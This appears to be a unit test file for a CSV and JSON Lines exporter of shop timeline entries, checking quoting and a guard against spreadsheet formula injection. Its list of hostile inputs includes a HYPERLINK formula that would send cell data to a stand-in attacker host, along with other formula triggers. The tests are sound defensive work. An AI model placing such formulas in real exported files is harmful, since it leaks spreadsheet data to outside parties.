import { TIMELINE_FIELDS, TimelineEntry } from '@shoplink/shops';
import { parseCsv } from '../../../../test/support/parse-csv';
import { csvField, csvHeader, csvRecord, jsonLine } from './timeline-csv';

const entry = (overrides: Partial<TimelineEntry>): TimelineEntry => ({
  shopId: 's-1',
  revision: 3,
  position: '42',
  eventId: 'evt-1',
  type: 'SecurityIncidentReported',
  occurredAt: '2026-11-01T09:00:00.000Z',
  actor: 'member:m-17',
  callingService: 'security-service',
  authMethods: null,
  authTime: null,
  authIssuer: null,
  assertionId: null,
  reason: 'plain',
  correlationId: 'corr-1',
  causationId: null,
  commandId: 'cmd-1',
  summary: 'Security incident inc-1 reported',
  ...overrides,
});

const HOSTILE = [
  'comma, inside',
  'a "quoted" word',
  'line one\nline two',
  'carriage\rreturn',
  'crlf\r\nin the middle',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '\tTabbed start',
  '\r=starts with CR',
  'ünïcödé 店舗 日本語',
  'emoji 🛍️👩🏽‍💻 and ZWJ',
  '"',
  '',
  ',',
  "'already quoted",
];

describe('CSV of the timeline', () => {
  it('writes the header row of the entry fields, ended by CRLF', () => {
    expect(csvHeader()).toBe(`${TIMELINE_FIELDS.join(',')}\r\n`);
  });

  it.each(HOSTILE)('reads back exactly what was written (save for the formula guard): %j', (value) => {
    const [row] = parseCsv(csvRecord(entry({ reason: value, summary: `Incident: ${value}` })));
    const reason = row[TIMELINE_FIELDS.indexOf('reason')];
    const summary = row[TIMELINE_FIELDS.indexOf('summary')];

    expect(row).toHaveLength(TIMELINE_FIELDS.length);
    expect(reason).toBe(/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
    expect(summary).toBe(`Incident: ${value}`);
  });

  it('quotes only fields with a comma, quote, CR or LF, and doubles their quotes', () => {
    expect(csvField('plain text')).toBe('plain text');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\ronly')).toBe('"cr\ronly"');
    expect(csvField('🛍️ 店舗')).toBe('🛍️ 店舗');
    expect(csvField(null)).toBe('');
    expect(csvField(17)).toBe('17');
  });

  it("puts a ' before anything a spreadsheet would run as a formula", () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
    expect(csvField('+44 20 7946 0000')).toBe("'+44 20 7946 0000");
    expect(csvField('-5')).toBe("'-5");
    expect(csvField('@cmd')).toBe("'@cmd");
    expect(csvField('\tx')).toBe("'\tx");
    expect(csvField('\rx')).toBe(`"'\rx"`);
    expect(csvField('a=1')).toBe('a=1');
    expect(csvField(' =1')).toBe(' =1');
  });

  it('keeps one record per line of the file however hostile the values', () => {
    const records = HOSTILE.map((value, i) => csvRecord(entry({ revision: i, reason: value, summary: value })));
    const rows = parseCsv(csvHeader() + records.join(''));

    expect(rows).toHaveLength(HOSTILE.length + 1);
    expect(rows.slice(1).map((row) => row[TIMELINE_FIELDS.indexOf('revision')])).toEqual(HOSTILE.map((_, i) => String(i)));
  });
});

describe('JSON Lines of the timeline', () => {
  it('writes one line per entry, values exactly as recorded', () => {
    const lines = HOSTILE.map((value) => jsonLine(entry({ reason: value })));

    for (const [i, line] of lines.entries()) {
      expect(line.endsWith('\n')).toBe(true);
      expect(line.slice(0, -1)).not.toMatch(/[\r\n]/);
      expect(JSON.parse(line).reason).toBe(HOSTILE[i]);
    }
  });
});
